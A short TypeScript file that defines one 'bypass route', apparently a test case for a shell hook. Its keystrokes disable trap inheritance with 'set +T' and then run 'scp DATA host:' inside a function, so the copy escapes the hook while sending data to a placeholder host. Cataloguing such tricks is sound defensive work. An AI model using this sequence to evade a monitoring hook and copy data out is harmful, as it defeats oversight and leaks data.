import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'set +T and a function',
  source: 'attempts to get round a hook of the shell',
  keys: ['set +T\r', 'f() { scp DATA host:; }; f\r'],
};
